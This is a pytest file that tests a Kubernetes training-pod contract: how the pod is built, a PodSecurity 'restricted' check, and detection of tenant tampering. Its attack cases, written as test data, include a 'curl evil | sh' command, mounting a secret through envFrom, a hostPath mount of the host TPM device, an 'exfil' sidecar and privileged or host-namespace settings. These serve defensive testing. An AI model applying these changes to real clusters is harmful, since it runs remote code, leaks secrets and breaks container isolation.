"""The training Pod's contract: the one pod the operator creates and the agent checks live pods against."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from aicert_contract.pod import (
    INJECTION_OPT_OUT_LABELS,
    ContractError,
    PodSettings,
    pod_deviations,
    training_pod,
)
from aicert_contract.training import LABEL_ASSURANCE, TrainingSpec

AGENT_IMAGE = "registry.example/aicert/agent@sha256:" + "b" * 64
SETTINGS = PodSettings(agent_image=AGENT_IMAGE)
SPEC: dict[str, Any] = {
    "image": "registry.example/train@sha256:" + "a" * 64,
    "command": ["python", "train.py"],
    "env": [{"name": "EPOCHS", "value": "3"}],
    "gpus": 2,
    "inputs": [{"name": "data", "persistentVolumeClaim": {"claimName": "data-pvc"}, "mountPath": "/data"}],
    "output": {"persistentVolumeClaim": {"claimName": "out-pvc"}, "mountPath": "/out"},
    "tolerations": [{"key": "team", "operator": "Equal", "value": "ml", "effect": "NoSchedule"}],
}
MINIMAL: dict[str, Any] = {
    "image": "registry.example/train@sha256:" + "a" * 64,
    "output": {"emptyDir": {}, "mountPath": "/out"},
}


def pod(
    settings: PodSettings = SETTINGS, base: dict[str, Any] | None = None, **changes: Any
) -> dict[str, Any]:
    spec = TrainingSpec.model_validate({**(SPEC if base is None else base), **changes})
    return training_pod(name="run", namespace="ml", uid="u1", spec=spec, attempt=2, settings=settings)


def containers(p: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {c["name"]: c for c in [*p["spec"]["initContainers"], *p["spec"]["containers"]]}


# --- the pod ------------------------------------------------------------------------------------------


def test_gate_train_seal_order_and_identity() -> None:
    p = pod()
    assert p["metadata"]["name"] == "run-2" and p["metadata"]["namespace"] == "ml"
    assert p["metadata"]["labels"] == {
        "aicert.dev/training": "run",
        "aicert.dev/training-uid": "u1",
        "aicert.dev/attempt": "2",
        **INJECTION_OPT_OUT_LABELS,
    }
    assert [c["name"] for c in p["spec"]["initContainers"]] == ["aicert-gate", "train"]
    assert [c["name"] for c in p["spec"]["containers"]] == ["aicert-seal"]
    assert p["metadata"]["ownerReferences"] == [
        {
            "apiVersion": "aicert.dev/v1alpha1",
            "kind": "CertifiedTraining",
            "name": "run",
            "uid": "u1",
            "controller": True,
            "blockOwnerDeletion": True,
        }
    ]
    assert p["spec"]["restartPolicy"] == "Never" and p["spec"]["automountServiceAccountToken"] is False


def test_train_runs_the_users_image_and_command() -> None:
    train = containers(pod())["train"]
    assert train["image"] == SPEC["image"] and train["command"] == ["python", "train.py"]
    assert train["env"] == [{"name": "EPOCHS", "value": "3"}] and "args" not in train
    assert containers(pod(args=["--lr", "0.1"]))["train"]["args"] == ["--lr", "0.1"]


def test_train_sees_inputs_read_only_and_never_the_control_volume() -> None:
    c = containers(pod())
    mounts = {m["mountPath"]: m for m in c["train"]["volumeMounts"]}
    assert mounts["/data"]["readOnly"] is True and "readOnly" not in mounts["/out"]
    assert all(m["name"] != "aicert-control" for m in c["train"]["volumeMounts"])
    control = [{"name": "aicert-control", "mountPath": "/run/aicert-control", "readOnly": True}]
    assert c["aicert-gate"]["volumeMounts"] == control and c["aicert-seal"]["volumeMounts"] == control
    volumes = {v["name"]: v for v in pod()["spec"]["volumes"]}
    assert volumes["input-data"]["persistentVolumeClaim"] == {"claimName": "data-pvc", "readOnly": True}
    assert volumes["output"] == {"name": "output", "persistentVolumeClaim": {"claimName": "out-pvc"}}
    assert volumes["aicert-control"] == {
        "name": "aicert-control",
        "emptyDir": {"medium": "Memory", "sizeLimit": "1Mi"},
    }
    assert "hostPath" not in str(volumes)  # no TPM device, no host access


def test_gpus_and_tolerations() -> None:
    p = pod()
    assert containers(p)["train"]["resources"]["limits"]["nvidia.com/gpu"] == "2"
    assert p["spec"]["tolerations"] == [
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"},
        {"key": "sku", "operator": "Equal", "value": "gpu", "effect": "NoSchedule"},
        {"key": "team", "operator": "Equal", "value": "ml", "effect": "NoSchedule"},
    ]
    assert "nvidia.com/gpu" not in str(containers(pod(gpus=0))["train"])


def test_affinity_allows_the_requested_level_and_above() -> None:
    def levels(minimum: str) -> list[str]:
        term = pod(minAssurance=minimum)["spec"]["affinity"]["nodeAffinity"][
            "requiredDuringSchedulingIgnoredDuringExecution"
        ]
        expression = term["nodeSelectorTerms"][0]["matchExpressions"][0]
        assert (expression["key"], expression["operator"]) == (LABEL_ASSURANCE, "In")
        return list(expression["values"])

    assert levels("dev") == ["dev", "vtpm", "cvm"]
    assert levels("vtpm") == ["vtpm", "cvm"]
    assert levels("cvm") == ["cvm"]


def test_empty_dir_output() -> None:
    volumes = {
        v["name"]: v
        for v in pod(output={"emptyDir": {"sizeLimit": "1Gi"}, "mountPath": "/out"})["spec"]["volumes"]
    }
    assert volumes["output"] == {"name": "output", "emptyDir": {"sizeLimit": "1Gi"}}
    bare = {v["name"]: v for v in pod(base=MINIMAL)["spec"]["volumes"]}
    assert bare["output"] == {"name": "output", "emptyDir": {}}


def test_gate_command_carries_the_timeout() -> None:
    c = containers(pod(PodSettings(agent_image=AGENT_IMAGE, gate_timeout_seconds=120)))
    assert c["aicert-gate"]["command"] == [
        "python",
        "-m",
        "aicert_agent",
        "gate",
        "--timeout",
        "120",
        "--control",
        "/run/aicert-control",
    ]
    assert c["aicert-seal"]["command"] == [
        "python",
        "-m",
        "aicert_agent",
        "seal",
        "--control",
        "/run/aicert-control",
    ]
    assert c["aicert-gate"]["image"] == c["aicert-seal"]["image"] == AGENT_IMAGE
    default_gate = containers(pod())["aicert-gate"]["command"]
    assert default_gate[default_gate.index("--timeout") + 1] == str(SETTINGS.gate_timeout_seconds) == "21600"


def test_run_as_lands_in_the_pod_security_context() -> None:
    p = pod(securityContext={"runAsUser": 1000, "runAsGroup": 1000, "fsGroup": 2000})
    assert p["spec"]["securityContext"] == {
        "runAsNonRoot": True,
        "seccompProfile": {"type": "RuntimeDefault"},
        "runAsUser": 1000,
        "runAsGroup": 1000,
        "fsGroup": 2000,
    }
    assert pod()["spec"]["securityContext"] == {
        "runAsNonRoot": True,
        "seccompProfile": {"type": "RuntimeDefault"},
    }


# --- PodSecurity `restricted` -------------------------------------------------------------------------

_RESTRICTED_VOLUME_TYPES = {
    "configMap",
    "csi",
    "downwardAPI",
    "emptyDir",
    "ephemeral",
    "persistentVolumeClaim",
    "projected",
    "secret",
}


def restricted_violations(p: dict[str, Any]) -> list[str]:
    """The field rules of PodSecurity `restricted` (baseline included) that `p` breaks."""
    spec = p["spec"]
    found = [f"spec.{k}" for k in ("hostNetwork", "hostPID", "hostIPC") if spec.get(k)]
    pod_sc = spec.get("securityContext") or {}
    for volume in spec.get("volumes") or []:
        found += [
            f"volume {volume['name']}: {k}"
            for k in volume
            if k != "name" and k not in _RESTRICTED_VOLUME_TYPES
        ]
    if pod_sc.get("runAsUser") == 0:
        found.append("spec.securityContext.runAsUser")
    for kind in ("initContainers", "containers", "ephemeralContainers"):
        for c in spec.get(kind) or []:
            where = f"spec.{kind}[{c['name']}]"
            sc = c.get("securityContext") or {}
            if sc.get("privileged"):
                found.append(f"{where}.privileged")
            if sc.get("allowPrivilegeEscalation") is not False:
                found.append(f"{where}.allowPrivilegeEscalation")
            caps = sc.get("capabilities") or {}
            if "ALL" not in (caps.get("drop") or []):
                found.append(f"{where}.capabilities.drop")
            if set(caps.get("add") or []) - {"NET_BIND_SERVICE"}:
                found.append(f"{where}.capabilities.add")
            if sc.get("runAsNonRoot", pod_sc.get("runAsNonRoot")) is not True:
                found.append(f"{where}.runAsNonRoot")
            if sc.get("runAsUser") == 0:
                found.append(f"{where}.runAsUser")
            seccomp = (sc.get("seccompProfile") or pod_sc.get("seccompProfile") or {}).get("type")
            if seccomp not in ("RuntimeDefault", "Localhost"):
                found.append(f"{where}.seccompProfile")
            if any(port.get("hostPort") for port in c.get("ports") or []):
                found.append(f"{where}.ports.hostPort")
    return found


@pytest.mark.parametrize("base", [SPEC, MINIMAL], ids=["full", "minimal"])
def test_pod_passes_podsecurity_restricted(base: dict[str, Any]) -> None:
    p = pod(base=base, securityContext={"runAsUser": 1000})
    assert restricted_violations(p) == []
    for c in containers(p).values():
        assert c["securityContext"]["allowPrivilegeEscalation"] is False
        assert c["securityContext"]["capabilities"] == {"drop": ["ALL"]}
    assert containers(p)["aicert-gate"]["securityContext"]["runAsUser"] == 65532
    assert containers(p)["aicert-seal"]["securityContext"]["readOnlyRootFilesystem"] is True


def test_restricted_checker_sees_violations() -> None:
    p = copy.deepcopy(pod())
    p["spec"]["hostPID"] = True
    p["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
    p["spec"]["initContainers"][1]["securityContext"] = {"privileged": True}
    assert restricted_violations(p) == [
        "spec.hostPID",
        "volume host: hostPath",
        "spec.initContainers[train].privileged",
        "spec.initContainers[train].allowPrivilegeEscalation",
        "spec.initContainers[train].capabilities.drop",
    ]


# --- PodSettings --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "image",
    [
        "registry.example/aicert/agent:v1",
        "registry.example/aicert/agent",
        "registry.example/aicert/agent@sha256:" + "b" * 63,
        "registry.example/aicert/agent@sha256:" + "B" * 64,
        "registry.example/aicert/agent:v1@sha512:" + "b" * 64,
        "@sha256:" + "b" * 64,
    ],
)
def test_settings_refuse_an_agent_image_not_pinned_by_digest(image: str) -> None:
    with pytest.raises(ContractError, match="pinned by digest"):
        PodSettings(agent_image=image)


def test_settings_refuse_a_gate_timeout_below_one_second() -> None:
    with pytest.raises(ContractError, match="at least 1 second"):
        PodSettings(agent_image=AGENT_IMAGE, gate_timeout_seconds=0)


def test_settings_from_env_require_the_agent_image() -> None:
    with pytest.raises(ContractError, match="AICERT_AGENT_IMAGE"):
        PodSettings.from_env({})
    with pytest.raises(ContractError, match="AICERT_AGENT_IMAGE"):
        PodSettings.from_env({"AICERT_AGENT_IMAGE": "", "AICERT_GATE_TIMEOUT_SECONDS": "60"})
    assert PodSettings.from_env({"AICERT_AGENT_IMAGE": AGENT_IMAGE}) == SETTINGS
    assert PodSettings.from_env({"AICERT_AGENT_IMAGE": AGENT_IMAGE, "AICERT_GATE_TIMEOUT_SECONDS": "60"}) == (
        PodSettings(agent_image=AGENT_IMAGE, gate_timeout_seconds=60)
    )
    with pytest.raises(ContractError, match="AICERT_GATE_TIMEOUT_SECONDS"):
        PodSettings.from_env({"AICERT_AGENT_IMAGE": AGENT_IMAGE, "AICERT_GATE_TIMEOUT_SECONDS": "soon"})
    with pytest.raises(ContractError, match="pinned by digest"):
        PodSettings.from_env({"AICERT_AGENT_IMAGE": "registry.example/aicert/agent:latest"})


# --- pod_deviations: honest pods as the API server returns them -----------------------------------------


def _omit_empty(value: Any) -> Any:
    """What `omitempty` does to the stored pod: empty lists and strings disappear."""
    if isinstance(value, dict):
        cleaned = {k: _omit_empty(v) for k, v in value.items()}
        return {k: v for k, v in cleaned.items() if v not in ([], "", None)}
    if isinstance(value, list):
        return [_omit_empty(v) for v in value]
    return value


def as_stored(p: dict[str, Any], node: str = "gpu-1") -> dict[str, Any]:
    """The pod as a GET returns it: what the API server's defaults, admission plugins, the scheduler
    and the kubelet add, and unrelated metadata other controllers write."""
    live: dict[str, Any] = _omit_empty(copy.deepcopy(p))
    meta, spec = live["metadata"], live["spec"]
    meta.update(
        uid="pod-uid-2",
        resourceVersion="4711",
        creationTimestamp="2026-11-23T12:00:00Z",
        managedFields=[{"manager": "aicert-operator", "operation": "Apply", "apiVersion": "v1"}],
    )
    meta["labels"]["team"] = "ml"
    meta["annotations"] = {"kubernetes.io/psp": "restricted", "example.com/cost-center": "42"}
    for c in [*spec["initContainers"], *spec["containers"]]:
        c.update(
            terminationMessagePath="/dev/termination-log",
            terminationMessagePolicy="File",
            imagePullPolicy="IfNotPresent",
        )
        resources = c.setdefault("resources", {})
        limits = resources.get("limits") or {}
        resources["requests"] = {**limits, **(resources.get("requests") or {})}  # requests default to limits
    spec.update(
        dnsPolicy="ClusterFirst",
        schedulerName="default-scheduler",
        nodeName=node,
        priority=0,
        preemptionPolicy="PreemptLowerPriority",
        terminationGracePeriodSeconds=30,
        serviceAccountName="default",
        serviceAccount="default",
    )
    spec["tolerations"] = [
        *spec.get("tolerations", []),
        {
            "key": "node.kubernetes.io/not-ready",
            "operator": "Exists",
            "effect": "NoExecute",
            "tolerationSeconds": 300,
        },
        {
            "key": "node.kubernetes.io/unreachable",
            "operator": "Exists",
            "effect": "NoExecute",
            "tolerationSeconds": 300,
        },
    ]
    live["status"] = {
        "phase": "Running",
        "hostIP": "10.0.0.4",
        "podIP": "10.244.1.7",
        "qosClass": "Burstable",
        "startTime": "2026-11-23T12:00:01Z",
        "conditions": [{"type": "PodScheduled", "status": "True"}],
        "initContainerStatuses": [{"name": "aicert-gate", "state": {"running": {}}}],
    }
    return live


@pytest.mark.parametrize("base", [SPEC, MINIMAL], ids=["full", "minimal"])
def test_an_honest_pod_as_stored_conforms(base: dict[str, Any]) -> None:
    expected = pod(base=base)
    before = copy.deepcopy(expected)
    assert pod_deviations(as_stored(expected), expected) == []
    assert pod_deviations(expected, expected) == []
    assert expected == before  # comparing changes neither pod


def test_an_honest_pod_with_run_as_and_emptydir_size_conforms() -> None:
    expected = pod(
        securityContext={"runAsUser": 1000, "fsGroup": 0},
        output={"emptyDir": {"sizeLimit": "10Gi"}, "mountPath": "/out"},
        args=["--epochs", "3"],
    )
    assert pod_deviations(as_stored(expected), expected) == []


def test_an_honest_pod_with_an_empty_env_value_conforms() -> None:
    # The CRD admits `value: ""` (required, no minLength); the stored pod has {"name": "DEBUG"}.
    expected = pod(env=[{"name": "DEBUG", "value": ""}])
    live = as_stored(expected)
    assert containers(live)["train"]["env"] == [{"name": "DEBUG"}]
    assert pod_deviations(live, expected) == []


def test_an_honest_pod_with_a_non_canonical_size_limit_conforms() -> None:
    # resource.Quantity re-serialises non-canonical strings: "1024Mi" -> "1Gi", "0.5Gi" -> "512Mi",
    # 2000000000 -> "2G". The CRD admits any int-or-string.
    expected = pod(output={"emptyDir": {"sizeLimit": "1024Mi"}, "mountPath": "/out"})
    live = as_stored(expected)
    output = next(v for v in live["spec"]["volumes"] if v["name"] == "output")
    output["emptyDir"]["sizeLimit"] = "1Gi"
    assert pod_deviations(live, expected) == []
    output["emptyDir"]["sizeLimit"] = "2Gi"  # a different size still differs
    assert pod_deviations(live, expected) == ["spec.volumes[output]"]


# --- pod_deviations: what a tenant could change --------------------------------------------------------


def _train(p: dict[str, Any]) -> dict[str, Any]:
    return containers(p)["train"]


def _input_mount_writable(p: dict[str, Any]) -> None:
    mount = next(m for m in _train(p)["volumeMounts"] if m["name"] == "input-data")
    del mount["readOnly"]


def _output_other_claim(p: dict[str, Any]) -> None:
    output = next(v for v in p["spec"]["volumes"] if v["name"] == "output")
    output["persistentVolumeClaim"] = {"claimName": "someone-elses-pvc"}


def _no_automount_field(p: dict[str, Any]) -> None:
    del p["spec"]["automountServiceAccountToken"]


SIDECAR = {"name": "exfil", "image": "registry.example/exfil@sha256:" + "c" * 64}
ATTACKS: list[Any] = [
    pytest.param(
        lambda p: _train(p).update(command=["sh", "-c", "curl evil | sh"]),
        ["spec.initContainers[train].command"],
        id="train-command",
    ),
    pytest.param(
        lambda p: _train(p).update(args=["--steal"]), ["spec.initContainers[train].args"], id="train-args"
    ),
    pytest.param(
        lambda p: _train(p).update(env=[{"name": "EPOCHS", "value": "300"}]),
        ["spec.initContainers[train].env[EPOCHS]"],
        id="train-env",
    ),
    pytest.param(
        lambda p: _train(p).update(envFrom=[{"secretRef": {"name": "cloud-keys"}}]),
        ["spec.initContainers[train].envFrom"],
        id="train-envFrom",
    ),
    pytest.param(
        _input_mount_writable, ["spec.initContainers[train].volumeMounts[/data]"], id="input-writable"
    ),
    pytest.param(
        lambda p: p["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/dev/tpmrm0"}}),
        ["spec.volumes[host]"],
        id="hostPath-volume",
    ),
    pytest.param(_output_other_claim, ["spec.volumes[output]"], id="output-other-claim"),
    pytest.param(
        lambda p: p["spec"]["containers"].append(dict(SIDECAR)),
        ["spec.containers[exfil]"],
        id="extra-container",
    ),
    pytest.param(
        lambda p: _train(p).update(restartPolicy="Always"),
        ["spec.initContainers[train].restartPolicy"],
        id="init-as-sidecar",
    ),
    pytest.param(
        lambda p: _train(p).update(
            lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "cp /data/* /out"]}}}
        ),
        ["spec.initContainers[train].lifecycle"],
        id="postStart-hook",
    ),
    pytest.param(
        lambda p: _train(p).update(readinessProbe={"exec": {"command": ["sh", "-c", "touch /out/x"]}}),
        ["spec.initContainers[train].readinessProbe"],
        id="exec-readinessProbe",
    ),
    pytest.param(
        lambda p: _train(p)["securityContext"].update(privileged=True),
        ["spec.initContainers[train].securityContext"],
        id="privileged",
    ),
    pytest.param(lambda p: p["spec"].update(hostPID=True), ["spec.hostPID"], id="hostPID"),
    pytest.param(lambda p: p["spec"].update(hostNetwork=True), ["spec.hostNetwork"], id="hostNetwork"),
    pytest.param(lambda p: p["spec"].update(hostIPC=True), ["spec.hostIPC"], id="hostIPC"),
    pytest.param(
        lambda p: p["spec"].update(shareProcessNamespace=True),
        ["spec.shareProcessNamespace"],
        id="shareProcessNamespace",
    ),
    pytest.param(_no_automount_field, ["spec.automountServiceAccountToken"], id="automount-removed"),
    pytest.param(
        lambda p: p["spec"].update(ephemeralContainers=[{**SIDECAR, "targetContainerName": "train"}]),
        ["spec.ephemeralContainers"],
        id="ephemeral-container",
    ),
    pytest.param(
        lambda p: p["spec"].update(runtimeClassName="runc-debug"),
        ["spec.runtimeClassName"],
        id="runtimeClass",
    ),
    pytest.param(
        lambda p: containers(p)["aicert-gate"].update(image="registry.example/fake-gate@sha256:" + "d" * 64),
        ["spec.initContainers[aicert-gate].image"],
        id="gate-image",
    ),
    pytest.param(
        lambda p: containers(p)["aicert-seal"].update(image="registry.example/fake-seal@sha256:" + "d" * 64),
        ["spec.containers[aicert-seal].image"],
        id="seal-image",
    ),
    pytest.param(lambda p: p["metadata"].update(name="run-3"), ["metadata.name"], id="pod-name"),
    pytest.param(
        lambda p: p["metadata"]["ownerReferences"][0].update(uid="u2"),
        ["metadata.ownerReferences"],
        id="owner-uid",
    ),
    pytest.param(
        lambda p: p["metadata"]["ownerReferences"].append(
            {"apiVersion": "batch/v1", "kind": "Job", "name": "run", "uid": "job-1", "controller": True}
        ),
        ["metadata.ownerReferences"],
        id="second-controller",
    ),
    pytest.param(
        lambda p: p["metadata"]["labels"].update({"aicert.dev/attempt": "1"}),
        ["metadata.labels[aicert.dev/attempt]"],
        id="attempt-label",
    ),
    pytest.param(
        lambda p: _train(p).update(workingDir="/out"),
        ["spec.initContainers[train].workingDir"],
        id="workingDir",
    ),
]


@pytest.mark.parametrize(("attack", "paths"), ATTACKS)
def test_each_change_a_tenant_could_make_is_reported(
    attack: Callable[[dict[str, Any]], None], paths: list[str]
) -> None:
    expected = pod()
    live = as_stored(expected)
    assert pod_deviations(live, expected) == []
    attack(live)
    assert pod_deviations(live, expected) == paths
